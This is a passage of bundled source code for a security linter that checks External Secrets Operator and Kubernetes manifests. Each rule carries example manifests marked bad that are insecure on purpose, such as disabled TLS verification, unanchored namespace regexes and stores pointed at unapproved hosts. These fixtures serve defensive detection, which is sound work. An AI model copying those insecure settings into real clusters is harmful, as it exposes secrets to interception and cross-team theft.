  - apiGroups: [""]
    resources: [namespaces]
    verbs: [get, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: labeller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: labeller }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: by-team }
  dataFrom: [{ extract: { key: shop/db } }]
`,
    `
# A Role may speak of the namespace that it is in.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: by-labels }
spec:
  conditions:
    - namespaceSelector: # finding: by the labels stage, team, and User ann (in namespace shop) can label
        matchLabels: { stage: test }
        matchExpressions: [{ key: team, operator: Exists }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: owner, namespace: shop }
rules:
  - apiGroups: [""]
    resources: [namespaces]
    resourceNames: [shop]
    verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: owner, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: owner }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: User, name: ann }]
`
  ],
  good: [
    `
# Names cannot be changed, here beside a label that can.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: by-name }
spec:
  conditions:
    - namespaces: [shop]
    - namespaceSelector: { matchLabels: { kubernetes.io/metadata.name: shop, team: shop } }
    - namespaceSelector: { matchLabels: { "\${LABEL}": shop } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: labeller }
rules:
  - apiGroups: [""]
    resources: [namespaces]
    verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: labeller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: labeller }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }]
`,
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Operators may, and whoever may change the store itself is not held by its conditions.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: by-team }
spec:
  conditions:
    - namespaceSelector: { matchLabels: { team: shop } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: labeller }
rules:
  - apiGroups: [""]
    resources: [namespaces]
    verbs: [update]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: labeller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: labeller }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: admins }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: admins }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: viewers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view }
subjects: [{ apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }]
`
  ],
  *check(store, world) {
    const selectors = alternativesOf(store).flatMap(({ by, path, value }) => {
      const labels = by === "selector" ? settableLabels(value) : [];
      return labels.length > 0 ? [{ path, labels }] : [];
    });
    const grants = selectors.length > 0 ? labellers(world) : [];
    if (grants.length === 0) return;
    for (const { path, labels } of selectors)
      yield {
        path,
        message: `it admits namespaces by the label${labels.length > 1 ? "s" : ""} ${labels.join(", ")}, and ${holders(grants)} can label a namespace`,
        related: bindingsOf(grants)
      };
  },
  fix: (fault) => namedConditions(fault)
});
function settableLabels(selector) {
  const requirements = requirementsOf(selector) ?? [];
  const isByName = requirements.some(({ key, operator }) => key === NAME_LABEL && operator === "In");
  if (isByName || reachOfSelector(selector) === "every") return [];
  const keys = requirements.map(({ key }) => key).filter((key) => key !== NAME_LABEL && !isPlaceholder(key));
  return [...new Set(keys)].sort();
}
var labellers = remember((world) => {
  const { rbac } = world;
  const grants = whoCanSomewhere(LABEL_NAMESPACES, rbac).map(({ grant }) => grant);
  const mayChangeStores = new Set(
    whoCan(CHANGE_STORES, void 0, rbac).map(({ grant }) => nameOfSubject(grant.subject))
  );
  const byPlace = new Map(grants.map((grant) => [`${nameOf(grant.binding)} ${grant.path.join(".")}`, grant]));
  return [...byPlace.values()].filter(
    (grant) => isStranger(grant, world) && !mayChangeStores.has(nameOfSubject(grant.subject))
  );
});
var LABEL_NAMESPACES = { group: "", resource: "namespaces", verbs: ["create", "update", "patch"] };
var CHANGE_STORES = { group: ESO_GROUP, resource: "clustersecretstores", verbs: ["update", "patch"] };

// src/rules/tls-verification-disabled.ts
var tls_verification_disabled_default = defineRule({
  id: "tls-verification-disabled",
  title: "A store does not verify whom it speaks to",
  severities: ["high"],
  kinds: CONNECTED_KINDS,
  why: "Encryption without verification stops nobody on the way: whoever answers in place of the service gets the credential of the store, and may answer with secrets of their own.",
  remedy: "Remove the setting. Where the service has a certificate of a private authority, name that authority in `caBundle` or `caProvider` if the provider has them, or give the service a certificate of a public one.",
  references: ["https://external-secrets.io/latest/guides/security-best-practices/"],
  guide: ["NS3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: senhasegura, namespace: shop }
spec:
  provider:
    senhasegura:
      url: https://senhasegura.example.com
      module: DSM
      ignoreSslCertificate: true # finding: senhasegura DSM is spoken to with ignoreSslCertificate: true
      auth:
        clientId: shop
        clientSecretSecretRef: { name: senhasegura, key: secret }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: beyondtrust, namespace: shop }
spec:
  provider:
    beyondtrust:
      server:
        apiUrl: https://beyondtrust.example.com/api
        verifyCA: false # finding: server.verifyCA: false
      auth: { apiKey: { secretRef: { name: beyondtrust, key: key } } }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: senhasegura, namespace: shop }
spec:
  provider:
    senhasegura:
      url: https://senhasegura.example.com
      module: DSM
      ignoreSslCertificate: false
      auth:
        clientId: shop
        clientSecretSecretRef: { name: senhasegura, key: secret }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: beyondtrust, namespace: shop }
spec:
  provider:
    beyondtrust:
      server: { apiUrl: https://beyondtrust.example.com/api, verifyCA: "\${VERIFY}" }
      auth: { apiKey: { secretRef: { name: beyondtrust, key: key } } }
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    for (const { field, value, what } of connected?.known?.insecure ?? [])
      for (const place of placesOf(connected?.config, field))
        if (connected && place.value === value)
          yield {
            path: [...connected.path, ...place.path],
            message: `${titleOf(connected)} is spoken to with ${field}: ${value}, so ${what}`
          };
  },
  fix({ manifest, path }) {
    const value = manifest?.get(...path);
    return typeof value === "boolean" ? unsafe(CERTIFICATE, setting(path, !value)) : void 0;
  }
});
var CERTIFICATE = "Does the server show a certificate that the pods of the operator trust? Else it cannot be reached.";

// src/rules/token-without-audience.ts
var token_without_audience_default = defineRule({
  id: "token-without-audience",
  title: "A ServiceAccount token for a provider is one for the API server as well",
  severities: ["low"],
  kinds: kindsWith(({ serviceAccounts = [] }) => serviceAccounts.some(({ needsAudience }) => needsAudience)),
  needs: ["connections"],
  why: "Without an audience Kubernetes makes the token for its own API server. The provider, or whoever listens on the way, can then act in the cluster as this ServiceAccount until the token ends.",
  remedy: "List an audience of the provider, and no other, under `audiences` beside the name of the ServiceAccount, and ask who runs the provider to expect it (Vault: `audience` of the Kubernetes auth role; Conjur: `audience` of the JWT authenticator).",
  references: [
    "https://external-secrets.io/latest/provider/hashicorp-vault/",
    "https://kubernetes.io/docs/concepts/security/service-accounts/"
  ],
  guide: ["PC3", "TM2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          role: shop
          serviceAccountRef: # finding: Vault gets a token of ServiceAccount shop that is made for the API server: auth.kubernetes.serviceAccountRef lists no audiences
            name: shop
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: conjur, namespace: shop }
spec:
  provider:
    conjur:
      url: https://conjur.example.com
      auth:
        jwt:
          account: shop
          serviceID: shop
          serviceAccountRef: { name: shop, audiences: [] } # finding: CyberArk Conjur gets a token of ServiceAccount shop
---
# One token for two is one for either.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: both, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          role: shop
          serviceAccountRef: # finding: auth.kubernetes.serviceAccountRef lists it among its audiences
            name: shop
            audiences: [vault, https://kubernetes.default.svc]
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: QuayAccessToken
metadata: { name: quay, namespace: shop }
spec:
  robotAccount: shop+robot
  serviceAccountRef: { name: shop } # finding: Quay gets a token of ServiceAccount shop
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { role: shop, serviceAccountRef: { name: shop, audiences: [vault] } } }
---
# By JWT the operator asks for the audience vault, and for AWS and Google for theirs.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: jwt, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { jwt: { role: shop, kubernetesServiceAccountToken: { serviceAccountRef: { name: shop } } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: aws, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1, auth: { jwt: { serviceAccountRef: { name: shop } } } }
---
# An API server takes no other token.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: hub, namespace: shop }
spec:
  provider:
    kubernetes: { auth: { serviceAccount: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth:
        kubernetes:
          role: shop
          serviceAccountRef:
            name: shop
            audiences: \${VAULT_AUDIENCES}
`
  ],
  *check(manifest) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const { field, needsAudience } of connected.known?.serviceAccounts ?? [])
      for (const { path, value } of needsAudience ? placesOf(connected.config, field) : []) {
        const reference = asMapping(value);
        if (!reference || isPlaceholder(reference) || !isApiServerAmong(reference.audiences)) continue;
        const name = asText(reference.name);
        yield {
          path: [...connected.path, ...path],
          message: `${titleOf(connected)} gets a token of ServiceAccount ${name ?? "?"} that is made for the API server: ${field} lists ${asList(reference.audiences).length > 0 ? "it among its" : "no"} audiences`
        };
      }
  },
  fix({ manifest, path }) {
    const isVault = manifest?.get("spec", "provider", "vault") !== void 0;
    return isVault ? unsafe(EXPECTED, setting([...path, "audiences"], ["vault"])) : void 0;
  }
});
var EXPECTED = "Does the role at Vault expect the audience `vault` (its parameter `audience`)? Tokens for another are refused.";

// src/model/anchors.ts
var looseEnds = (pattern) => ({
  before: !isSettled2(pattern, "start"),
  after: !isSettled2(pattern, "end")
});
var ANCHORS = { start: ["^", "\\A"], end: ["$", "\\z"] };
function isSettled2(pattern, side) {
  return alternatives(pattern).every((atoms) => {
    const edge = side === "start" ? atoms[0] : atoms.at(-1);
    if (!edge) return false;
    if (edge.repeated !== "") return /^[*+]/.test(edge.repeated) && takesAnyLetter(edge.text);
    if (edge.text === "-" || ANCHORS[side].includes(edge.text)) return true;
    const [, inner] = GROUP.exec(edge.text) ?? [];
    return inner !== void 0 && isSettled2(inner, side);
  });
}
var GROUP = /^\((?:\?(?:P?<\w+>|[imsU-]*:))?(.*)\)$/s;
var LETTERS = ["a", "z", "0", "9", "-"];
function takesAnyLetter(atom) {
  const regexp = compileGoRegexp(atom);
  return regexp !== void 0 && LETTERS.every((letter) => regexp.matchesAll(letter));
}
var FLAGS = /^\(\?[imsU-]+\)$/;
function alternatives(pattern) {
  const found = [[]];
  for (const atom of atomsOf(pattern))
    if (atom.text === "|") found.push([]);
    else if (!FLAGS.test(atom.text)) found.at(-1)?.push(atom);
  return found;
}
var REPEATED = /(?:[*+?]|\{\d+(?:,\d*)?\})\??/y;
var PIECE = /\\[\s\S]|\[\^?\]?(?:\\[\s\S]|\[:\w+:\]|[^\]\\])*\]|[\s\S]/y;
function* atomsOf(pattern) {
  let at2 = 0;
  while (at2 < pattern.length) {
    const end = endOfAtom(pattern, at2);
    const repeated = matchAt(REPEATED, pattern, end);
    yield { text: pattern.slice(at2, end), repeated };
    at2 = end + repeated.length;
  }
}
function endOfAtom(pattern, start) {
  let [at2, depth] = [start, 0];
  do {
    const piece = matchAt(PIECE, pattern, at2);
    if (piece === "(") depth++;
    if (piece === ")") depth--;
    at2 += piece.length;
  } while (depth > 0 && at2 < pattern.length);
  return at2;
}
function matchAt(regexp, text, at2) {
  regexp.lastIndex = at2;
  return regexp.exec(text)?.[0] ?? "";
}

// src/rules/unanchored-namespace-regex.ts
var unanchored_namespace_regex_default = defineRule({
  id: "unanchored-namespace-regex",
  title: "A namespace expression of a ClusterSecretStore is not anchored",
  severities: ["medium"],
  kinds: [`${ESO_GROUP}/ClusterSecretStore`],
  needs: ["stores"],
  why: "The operator looks for the expression anywhere in the name of the namespace: `team-a` also takes `x-team-a-test`. Whoever may create or name a namespace picks a name that contains it and reads the secrets of the team.",
  remedy: "Begin each expression in `namespaceRegexes` with `^` and end it with `$`, around the whole of it, as in `^team-[a-z]+$`, or list the namespaces under `namespaces`, which are compared exactly.",
  references: ["https://external-secrets.io/latest/api/clustersecretstore/", "https://pkg.go.dev/regexp#MatchString"],
  guide: ["NI2"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: unanchored }
spec:
  conditions:
    - namespaceRegexes:
        - team-a # finding: the expression "team-a" is not anchored, so it also takes x-team-a-x
        - team-a-.* # finding: is not anchored at its beginning, so it also takes x-team-a-x
        - ^team-a # finding: is not anchored at its end, so it also takes team-a-x
        - ^team-a|team-b$ # finding: the expression "^team-a|team-b$" is not anchored
        - ^(team-a|team-b) # finding: is not anchored at its end
        - "[a-z]+-dev$" # finding: is not anchored at its beginning
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: anchored }
spec:
  conditions:
    - namespaceRegexes: ["^team-a$", "^(team-a|team-b)$", "^team-a$|^team-b$", '\\Ateam-a\\z']
    # Whoever writes this means every name that begins or ends so.
    - namespaceRegexes: ["^team-", "^team-.*", "^team-[a-z0-9-]+", "-dev$", ".*-dev$"]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# Names are compared exactly; the API server refuses an expression that does not compile.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: others }
spec:
  conditions:
    - namespaces: [team-a]
    - namespaceRegexes: ["\${TEAM}", "(team", 1]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  *check(store) {
    for (const { path, by, value } of alternativesOf(store)) {
      if (by !== "regex" || typeof value !== "string" || isPlaceholder(value)) continue;
      const regexp = compileGoRegexp(value);
      if (!regexp) continue;
      const ends = looseEnds(value);
      if (!ends.before && !ends.after) continue;
      const example = exampleOf(value, regexp, ends);
      const takes = example === void 0 ? "it takes names that merely contain a match" : `it also takes ${example}`;
      yield { path, message: `the expression "${value}" is not anchored${sideOf(ends)}, so ${takes}` };
    }
  },
  fix({ manifest, path, world }) {
    const pattern = manifest?.get(...path);
    if (!manifest || typeof pattern !== "string") return void 0;
    const anchored = anchoredAt(pattern, looseEnds(pattern));
    const changes = setting(path, anchored);
    const regexp = compileGoRegexp(anchored);
    const isEnough = userNamespaces(manifest, world).every((name) => regexp?.matches(name));
    return world.has("complete") && isEnough ? safe(changes) : unsafe(WHOLE_NAMES, changes);
  }
});
var WHOLE_NAMES = "Does the expression say the whole name of every namespace that uses the store? Others lose it.";
var anchoredAt = (pattern, { before, after }) => pattern.includes("|") ? `^(?:${pattern})$` : `${before ? "^" : ""}${pattern}${after ? "$" : ""}`;
var sideOf = ({ before, after }) => before && after ? "" : before ? " at its beginning" : " at its end";
function exampleOf(pattern, regexp, { before, after }) {
  const plain = pattern.replace(/^\^|\$$/g, "").replace(/\.[*+]/g, "x");
  const example = `${before ? "x-" : ""}${plain}${after ? "-x" : ""}`;
  return /^[a-z0-9-]+$/.test(example) && regexp.matches(example) && !regexp.matchesAll(example) ? example : void 0;
}

// src/rules/unapproved-endpoint.ts
var unapproved_endpoint_default = defineRule({
  id: "unapproved-endpoint",
  title: "A store speaks to a host that is not allowed",
  severities: ["high"],
  kinds: CONNECTED_KINDS,
  why: "Whoever writes a store decides which server gets the credential and the requests of the operator. A host that nobody approved may be the author’s own: a PushSecret sends Secrets there, an ExternalSecret fetches what it likes.",
  remedy: "Point the store at an approved host, or add the host to `allowedEndpoints` in this tool’s config if the platform team agrees.",
  references: ["https://external-secrets.io/latest/guides/threat-model/"],
  guide: ["NS2", "TM4", "TM5"],
  bad: [
    `
# config: { allowedEndpoints: [vault.example.com, "*.corp.example.com"] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: elsewhere, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.org:8200 # finding: Vault at vault.example.org is not an allowed endpoint
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
# Left out, the address is the provider's own.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: gitlab, namespace: shop }
spec:
  provider:
    gitlab: # finding: GitLab variables at gitlab.com is not
      projectID: "1"
      auth: { SecretRef: { accessToken: { name: gitlab, key: token } } }
`
  ],
  good: [
    `
# config: { allowedEndpoints: [vault.example.com, "*.corp.example.com"] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com:8200
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: below, namespace: shop }
spec:
  provider:
    vault:
      server: https://eu.vault.corp.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: https://\${VAULT}
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`,
    `
# Without a list every host is allowed.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: anywhere, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.org
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  *check(manifest, world) {
    const { allowedEndpoints } = world.config;
    const connected = connectedOf(manifest);
    if (!allowedEndpoints || !connected) return;
    for (const { path, host } of endpointsOf(manifest, world))
      if (!isHostIn(host, allowedEndpoints))
        yield { path, message: `${titleOf(connected)} at ${host} is not an allowed endpoint` };
  }
});

// src/model/pods/registries.ts
function isFromRegistry(image, registry) {
  const allowed = normalized(registry.replace(/\/\*{0,2}$/, ""), false);
  const repository = normalized(parseImage(image).repository, true);
  return repository === allowed || repository.startsWith(`${allowed}/`);
}
function normalized(name, isImage) {
  const [first = "", ...rest] = name.split("/");
  const hasHost = (rest.length > 0 || !isImage) && (/[.:]/.test(first) || first === "localhost");
  if (!hasHost) return `docker.io/${isImage && rest.length === 0 ? "library/" : ""}${name}`;
  const host = first.toLowerCase();
  const path = isImage && host === DOCKER_HUB && rest.length === 1 ? ["library", ...rest] : rest;
  return [host === `index.${DOCKER_HUB}` ? DOCKER_HUB : host, ...path].join("/");
}
var DOCKER_HUB = "docker.io";

// src/rules/unapproved-image-registry.ts
var unapproved_image_registry_default = defineRule({
  id: "unapproved-image-registry",
  title: "A pod of the operator runs an image from a registry that is not allowed",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "Whoever can put an image into that registry runs code with the rights of the operator: every container of its pods shares its network, and mounts its ServiceAccount token unless told otherwise.",
  remedy: "Take the image from a registry of `allowedRegistries`: in the operator chart `image.repository`, `webhook.image.repository` and `certController.image.repository`, or `global.repository` for all three; or add the registry to `allowedRegistries` in `.eso-hardener.yaml` once it is trusted.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/containers/images/#image-names"
  ],
  guide: ["TM1"],
  bad: [
    `
# config: { allowedRegistries: [registry.example.com/mirror, "harbor.example.com:5000"] }
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      initContainers:
        - name: certificates
          image: registry.example.com/mirrors/ca:v1 # finding: container certificates runs registry.example.com/mirrors/ca:v1, which is in none of the allowed registries (registry.example.com/mirror, harbor.example.com:5000)
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0 # finding: container controller runs ghcr.io/external-secrets/external-secrets:v2.9.0
        - name: proxy
          image: nginx # finding: container proxy runs nginx
        - name: metrics
          image: harbor.example.com/metrics:v1 # finding: container metrics runs harbor.example.com/metrics:v1
`
  ],
  good: [
    `
# config: { allowedRegistries: [registry.example.com/mirror/, docker.io, "ghcr.io/external-secrets/*"] }
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      initContainers:
        - { name: certificates, image: "registry.example.com/mirror/ca@sha256:0b6a027b5cf322f09f6706c754e086a232ec1ddba835c8a15c6cb74ef0d43c29" }
        - { name: wait, image: "busybox:1.37" }
        - { name: later, image: "\${REGISTRY}/tools:v1" }
      containers:
        - { name: controller, image: "GHCR.io/external-secrets/external-secrets:v2.9.0" }
---
# Not the operator's.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: shop }
spec:
  template:
    spec:
      containers:
        - { name: shop, image: "quay.io/example/shop:v1" }
`,
    `
# Nobody said which registries are allowed.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - { name: controller, image: "quay.io/example/external-secrets:v2.9.0" }
`
  ],
  *check(manifest, { eso, config: { allowedRegistries } }) {
    if (allowedRegistries === void 0 || !eso.componentOf(manifest)) return;
    for (const { image, name, path } of podOf(manifest)?.containers ?? []) {
      if (!image || isPlaceholder(image)) continue;
      if (allowedRegistries.some((registry) => isFromRegistry(image, registry))) continue;
      const allowed = allowedRegistries.length > 0 ? allowedRegistries.join(", ") : "the list is empty";
      yield {
        path: [...path, "image"],
        message: `container ${name} runs ${image}, which is in none of the allowed registries (${allowed})`
      };
    }
  }
});

// src/rules/unapproved-provider.ts
var unapproved_provider_default = defineRule({
  id: "unapproved-provider",
  title: "A store uses a provider that the config does not allow",
  severities: ["high"],
  kinds: STORE_KINDS,
  needs: ["stores"],
  why: "A provider that nobody looked at is a way out: a PushSecret carries Secrets to it, and what comes back from it becomes Secrets of the cluster.",
  remedy: "Use one of the providers under `allowedProviders` in this tool's config, or ask its owners to allow this one. An admission policy for providers refuses such a store in the cluster as well.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/guides/threat-model/"
  ],
  guide: ["AC1", "TM4"],
  bad: [
    `
# config: { allowedProviders: [vault, aws] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: doppler, namespace: shop }
spec:
  provider:
    doppler: # finding: the provider doppler (Doppler) is not one of the allowed ones: aws, vault
      auth: { secretRef: { dopplerToken: { name: doppler } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: novel }
spec:
  provider:
    novel: {} # finding: the provider novel is not one of the allowed ones
`,
    `
# config: { allowedProviders: [] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault: { server: "https://vault.example.com" } # finding: the provider vault (Vault) is not allowed: the config allows none
`
  ],
  good: [
    `
# config: { allowedProviders: [vault] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: allowed, namespace: shop }
spec:
  provider:
    vault: { server: "https://vault.example.com" }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider: \${STORE_PROVIDER}
`,
    `
# Where the config says nothing, every provider is allowed.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: doppler, namespace: shop }
spec:
  provider:
    doppler: { auth: { secretRef: { dopplerToken: { name: doppler } } } }
`
  ],
  *check(store, { config: { allowedProviders } }) {
    const provider = providerOf(store);
    if (!provider || !allowedProviders || allowedProviders.includes(provider.name)) return;
    const which = provider.known ? `${provider.name} (${titleOf(provider)})` : provider.name;
    const allowed = allowedProviders.length > 0 ? `one of the allowed ones: ${allowedProviders.toSorted().join(", ")}` : "allowed: the config allows none";
    yield { path: provider.path, message: `the provider ${which} is not ${allowed}` };
  }
});

// src/rules/unmaintained-provider.ts
var unmaintained_provider_default = defineRule({
  id: "unmaintained-provider",
  title: "A store uses a provider that is alpha, gone, or whose warnings are switched off",
  severities: ["info"],
  kinds: STORE_KINDS,
  needs: ["stores"],
  why: "Code that signs in to a secret store and that few people look after gets its security fixes late or never. The operator takes out providers that nobody maintains, and then their secrets are not refreshed any more.",
  remedy: "Prefer a provider that is stable where there is a choice; else pin the version, read the release notes before each upgrade, and keep the operator's warnings: remove the annotation `external-secrets.io/ignore-maintenance-checks`.",
  references: [
    "https://external-secrets.io/latest/introduction/stability-support/",
    "https://external-secrets.io/latest/api/clustersecretstore/"
  ],
  guide: ["TM4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: doppler, namespace: shop }
spec:
  provider:
    doppler: # finding: Doppler is an alpha provider
      auth: { secretRef: { dopplerToken: { name: doppler } } }
---
apiVersion: external-secrets.io/v1beta1
kind: ClusterSecretStore
metadata: { name: alibaba }
spec:
  provider:
    alibaba: { regionID: eu-central-1 } # finding: Alibaba Cloud KMS is gone since ESO 2.0.0
`,
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata:
  name: vault
  namespace: shop
  annotations:
    external-secrets.io/ignore-maintenance-checks: "true" # finding: this annotation switches off the operator's warnings about an unmaintained provider
spec:
  provider:
    vault: { server: "https://vault.example.com" }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop, annotations: { team: shop } }
spec:
  provider:
    vault: { server: "https://vault.example.com" }
---
# Nothing is known of it.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: novel, namespace: shop }
spec:
  provider:
    novel: {}
`
  ],
  *check(store) {
    const provider = providerOf(store);
    const says2 = provider?.known && statusOf(provider.known);
    if (provider && says2 !== void 0) yield { path: provider.path, message: says2 };
    if (store.get("metadata", "annotations", IGNORE) !== void 0)
      yield {
        path: ["metadata", "annotations", IGNORE],
        message: "this annotation switches off the operator's warnings about an unmaintained provider"
      };
  }
});
var IGNORE = "external-secrets.io/ignore-maintenance-checks";
function statusOf({ name, title, until }) {
  if (until !== void 0) return `${title} is gone since ESO ${until}`;
  return DATED.providers[name] === "alpha" ? `${title} is an alpha provider (as of ${DATED.asOf})` : void 0;
}

// src/rules/unmonitored-operator.ts
var unmonitored_operator_default = defineRule({
  id: "unmonitored-operator",
  title: "Nobody reads the operator's metrics",
  severities: ["low"],
  kinds: [],
  needs: ["install"],
  why: "The operator counts failed syncs and says which stores and ExternalSecrets are not ready only in its metrics, its events and the status of each object. When nobody reads them, a credential that was taken away, a store that was changed or a rotation that never arrived goes unseen.",
  remedy: "Set `serviceMonitor.enabled: true` in the operator chart, or `podAnnotations` for the agent you use. From 1.0 on the chart leaves the ServiceMonitor out where helm does not know its kind: set `serviceMonitor.renderMode: alwaysRender`, or name `monitoring.coreos.com/v1/ServiceMonitor` in `apiVersions` of the release.",
  references: [
    "https://external-secrets.io/latest/api/metrics/",
    "https://prometheus-operator.dev/docs/developer/getting-started/"
  ],
  guide: ["AO1", "AO2"],
  bad: [
    `
# finding: no ServiceMonitor, PodMonitor or scrape annotation in the set leads to the controller of External Secrets Operator in namespace eso
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata:
      labels: { app: external-secrets }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: v1
kind: Service
metadata: { name: metrics, namespace: eso, labels: { app: external-secrets } }
spec:
  selector: { app: external-secrets }
---
# It stands in another namespace, and names none.
apiVersion: monitoring.coreos.com/v1
kind: ServiceMonitor
metadata: { name: external-secrets, namespace: monitoring }
spec:
  selector:
    matchLabels: { app: external-secrets }
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    metadata:
      labels: { app: external-secrets }
    spec:
      containers:
        - { name: controller, image: "ghcr.io/external-secrets/external-secrets:v2.9.0" }
---
apiVersion: v1
kind: Service
metadata: { name: metrics, namespace: eso, labels: { app: external-secrets } }
spec:
  selector: { app: external-secrets }
---
apiVersion: monitoring.coreos.com/v1
kind: ServiceMonitor
metadata: { name: external-secrets, namespace: monitoring }
spec:
  namespaceSelector: { matchNames: [eso] }
  selector:
    matchLabels: { app: external-secrets }
`,
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
